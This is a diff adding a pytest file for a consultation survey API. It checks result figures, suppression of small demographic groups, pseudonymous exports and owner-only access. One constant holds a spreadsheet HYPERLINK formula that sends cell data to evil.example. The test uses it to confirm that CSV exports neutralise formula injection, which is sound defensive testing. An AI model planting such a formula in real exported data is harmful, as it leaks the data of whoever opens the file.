@@ -1,0 +1,191 @@
+"""Results and exports: figures, small-cell suppression everywhere, formula-safe CSV, access."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import json
+from collections.abc import Callable
+from typing import Any
+
+import httpx
+import pytest
+
+from localrights_consultation.domain.exports import FORMULA_STARTS
+
+API = "/api/v1/consultations"
+Answers = Callable[..., dict[str, Any]]
+INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+async def answer_many(
+    client: httpx.AsyncClient,
+    consultation_id: str,
+    resident: Callable[..., dict[str, str]],
+    answers: Answers,
+    groups: dict[str, int],
+) -> None:
+    """Submit ``size`` responses per age group, each from its own device."""
+    jobs = []
+    for group, size in groups.items():
+        for n in range(size):
+            extra = {"comment": INJECTION} if group == "senior" and n == 0 else {}
+            body = {"answers": answers(age=group, safety=1 + n % 5, **extra)}
+            jobs.append(
+                client.post(
+                    f"{API}/{consultation_id}/responses",
+                    json=body,
+                    headers=resident(f"{group}-{n}"),
+                )
+            )
+    for chunk in range(0, len(jobs), 16):
+        sent = await asyncio.gather(*jobs[chunk : chunk + 16])
+        assert {r.status_code for r in sent} == {201}, [
+            r.text for r in sent if r.status_code != 201
+        ]
+
+
+@pytest.fixture
+async def surveyed(
+    client: httpx.AsyncClient,
+    make_consultation: Any,
+    answers: Answers,
+    resident: Callable[..., dict[str, str]],
+) -> dict[str, Any]:
+    """An open consultation with 61 youth, 60 adult and 4 senior respondents."""
+    c = await make_consultation()
+    await answer_many(client, c["id"], resident, answers, {"youth": 61, "adult": 60, "senior": 4})
+    return c
+
+
+class TestResults:
+    async def test_figures_overall(
+        self, client: httpx.AsyncClient, surveyed: dict[str, Any], officer: dict[str, str]
+    ) -> None:
+        results = (await client.get(f"{API}/{surveyed['id']}/results", headers=officer)).json()
+        assert results["response_count"] == 125 and results["by"] is None
+        figures = {q["question_id"]: q for q in results["overall"]["questions"]}
+        housing = {o["id"]: o for o in figures["housing"]["options"]}
+        assert housing["no"] == {"id": "no", "count": 125, "share": 1.0}
+        services = {o["id"]: o["count"] for o in figures["services"]["options"]}
+        assert services == {"clinic": 125, "library": 0, "bus": 125}
+        assert figures["safety"]["responses"] == 125
+        assert 1 <= figures["safety"]["mean"] <= 5
+        scores = {o["id"]: o["score"] for o in figures["priorities"]["options"]}
+        assert scores == {"water": 375, "schools": 250, "roads": 125}
+        projects = {p["id"]: p["total"] for p in figures["budget"]["projects"]}
+        assert projects == {"park": 400 * 125, "lights": 500 * 125}
+        assert figures["comment"]["responses"] == 125 and "options" not in figures["comment"]
+        age = {o["id"]: o["count"] for o in figures["age"]["options"]}
+        assert age == {"youth": 61, "suppressed": 64}  # its own distribution is suppressed too
+
+    async def test_a_group_of_four_never_appears_even_in_a_large_total(
+        self, client: httpx.AsyncClient, surveyed: dict[str, Any], officer: dict[str, str]
+    ) -> None:
+        response = await client.get(
+            f"{API}/{surveyed['id']}/results", params={"by": "age"}, headers=officer
+        )
+        results = response.json()
+        assert [g["group"] for g in results["groups"]] == ["youth", "suppressed"]
+        assert "senior" not in response.text and "adult" not in response.text
+        merged = results["groups"][1]
+        assert merged["responses"] == 64  # the 4 seniors with the next-smallest group
+        assert results["overall"]["responses"] - results["groups"][0]["responses"] == 64
+
+    async def test_breakdown_only_by_a_demographic_question(
+        self, client: httpx.AsyncClient, surveyed: dict[str, Any], officer: dict[str, str]
+    ) -> None:
+        response = await client.get(
+            f"{API}/{surveyed['id']}/results", params={"by": "housing"}, headers=officer
+        )
+        assert response.status_code == 422
+        assert "'housing' is not a demographic question" in response.json()["detail"]
+
+    async def test_public_once_published_owner_live(
+        self,
+        client: httpx.AsyncClient,
+        surveyed: dict[str, Any],
+        officer: dict[str, str],
+        other_officer: dict[str, str],
+    ) -> None:
+        url = f"{API}/{surveyed['id']}/results"
+        assert (await client.get(url)).status_code == 403
+        assert (await client.get(url, headers=other_officer)).status_code == 403
+        assert (await client.get(url, headers=officer)).status_code == 200
+        await client.post(f"{API}/{surveyed['id']}/close", headers=officer)
+        await client.post(f"{API}/{surveyed['id']}/publish", headers=officer)
+        public = await client.get(url, params={"by": "age"})
+        assert public.status_code == 200 and "senior" not in public.text
+
+
+class TestExports:
+    @pytest.mark.parametrize("fmt", ["csv", "json"])
+    @pytest.mark.parametrize("what", ["results", "responses"])
+    async def test_suppression_applies_to_every_export(
+        self,
+        client: httpx.AsyncClient,
+        surveyed: dict[str, Any],
+        officer: dict[str, str],
+        fmt: str,
+        what: str,
+    ) -> None:
+        response = await client.get(
+            f"{API}/{surveyed['id']}/export",
+            params={"format": fmt, "what": what, "by": "age"},
+            headers=officer,
+        )
+        assert response.status_code == 200, response.text
+        assert "senior" not in response.text and "adult" not in response.text
+        if what == "responses":
+            rows = (
+                list(csv.DictReader(io.StringIO(response.text)))
+                if fmt == "csv"
+                else [{**r, **r["answers"]} for r in json.loads(response.text)]
+            )
+            assert len(rows) == 125
+            ages = [row["age"] for row in rows]
+            assert ages.count("suppressed") == 64 and ages.count("youth") == 61
+
+    async def test_responses_are_pseudonymous(
+        self, client: httpx.AsyncClient, surveyed: dict[str, Any], officer: dict[str, str]
+    ) -> None:
+        response = await client.get(
+            f"{API}/{surveyed['id']}/export",
+            params={"format": "json", "what": "responses"},
+            headers=officer,
+        )
+        rows = json.loads(response.text)
+        assert set(rows[0]) == {"response_id", "submitted_on", "language", "answers"}
+        assert "youth-0" not in response.text  # no client key
+        assert len(rows[0]["submitted_on"]) == 10  # the day, not the moment
+
+    async def test_csv_cells_cannot_run_as_formulas(
+        self, client: httpx.AsyncClient, surveyed: dict[str, Any], officer: dict[str, str]
+    ) -> None:
+        response = await client.get(
+            f"{API}/{surveyed['id']}/export",
+            params={"format": "csv", "what": "responses"},
+            headers=officer,
+        )
+        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
+        assert "'" + INJECTION in cells
+        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
+
+    async def test_only_the_owner_exports(
+        self,
+        client: httpx.AsyncClient,
+        surveyed: dict[str, Any],
+        officer: dict[str, str],
+        other_officer: dict[str, str],
+        resident: Callable[..., dict[str, str]],
+    ) -> None:
+        url = f"{API}/{surveyed['id']}/export"
+        for what in ("results", "responses"):
+            params = {"what": what}
+            assert (await client.get(url, params=params, headers=other_officer)).status_code == 403
+            assert (await client.get(url, params=params, headers=resident())).status_code == 401
+        await client.post(f"{API}/{surveyed['id']}/close", headers=officer)
+        await client.post(f"{API}/{surveyed['id']}/publish", headers=officer)
+        published = await client.get(url, params={"what": "responses"}, headers=other_officer)
+        assert published.status_code == 403  # raw responses stay the owner's, even then
